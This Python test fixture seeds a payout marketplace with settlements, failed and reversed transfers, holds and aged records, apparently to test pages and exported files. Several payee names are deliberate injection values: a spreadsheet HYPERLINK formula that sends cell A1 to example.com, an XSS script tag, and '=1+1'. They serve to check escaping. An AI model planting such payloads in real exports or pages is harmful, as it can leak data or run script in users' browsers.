"""A marketplace with transfers in many states, on several days, under names that try to be more.

For the tests of the pages and files that people read.
"""

from __future__ import annotations

from typing import Final

from psycopg.types.json import Jsonb

from tests.engine import Engine, no_answer, success, unfunded, unguarded
from tests.settle.marketplace import complete, line

FORMULA: Final = '=HYPERLINK("http://example.com?"&A1,"seller")'
SCRIPT: Final = "<script>alert('seller')</script>&amp;"
LONG: Final = "a-settlement-" + 150 * "x"


def fill(engine: Engine) -> None:
    """Settle, pay, decline, lose an answer, take money back, hold, and let days pass."""
    engine.settle("seller_1", "seller_2", settlement_id="set_1", amount_minor=150_000)
    for payee in (FORMULA, SCRIPT):
        engine.app.execute("select payout_api.register_payee(%s, 'acct_odd')", [payee])
    complete(engine.app, "=1+1", [line("1", FORMULA, 1500), line("2", SCRIPT, 1500)])
    engine.settle("seller_3", settlement_id=LONG, currency="jpy", amount_minor=1_234_567)
    engine.settle("seller_4", settlement_id="set_4", currency="kwd", amount_minor=10**9)
    for number, claim in enumerate(engine.claim()):
        outcome = (
            unfunded(claim)
            if number == 1
            else no_answer(claim)
            if number == 2
            else success(claim, amount_minor=1, stripe_transfer_id="tr_wrong")
            if number == 3
            else success(claim, stripe_transfer_id=f"tr_{number}")
        )
        engine.report(outcome)
    engine.db.execute(
        "select payout.book_reversals(t, %s) from payout.payout_transfers as t "
        "where payee_id = 'seller_1'",
        [Jsonb([{"id": "trr_1", "amount": 400}])],
    )
    age(engine, days=3)
    engine.end_waits()
    engine.settle("seller_1", settlement_id="set_5", amount_minor=700)
    job = engine.db.execute("select max(payout_job_id) from payout.payout_jobs").fetchall()[0][0]
    (claim,) = engine.claim(payout_job_id=job)
    engine.report(success(claim, stripe_transfer_id="tr_5"))
    age(engine, days=2)
    engine.settle("seller_2", settlement_id="set_6", amount_minor=900)
    engine.app.execute("select payout_api.register_payee('newcomer')")
    complete(engine.app, "set_7", [line("1", "newcomer", 123_456_789)])
    for payee in ("seller_2", SCRIPT):
        engine.hold("payee", payee)
    for scope, subject in (("settlement", LONG), ("payee", "seller_3")):
        engine.operator.execute(
            "select payout_api.hold(p_scope => %s, p_reason => %s, p_subject => %s)",
            [scope, 200 * "x", subject],
        )
    engine.worker.execute("select payout_api.heartbeat('worker_1', '1.0')")


def age(engine: Engine, *, days: int) -> None:
    """Let all that is booked, and every change of a transfer, be so many days older."""
    with unguarded(engine.db, "payout.ledger_entries", "payout.transfer_states"):
        engine.db.execute(
            "update payout.ledger_entries set created_at = created_at - make_interval(days => %s)",
            [days],
        )
        engine.db.execute(
            "update payout.transfer_states set changed_at = changed_at - make_interval(days => %s)",
            [days],
        )
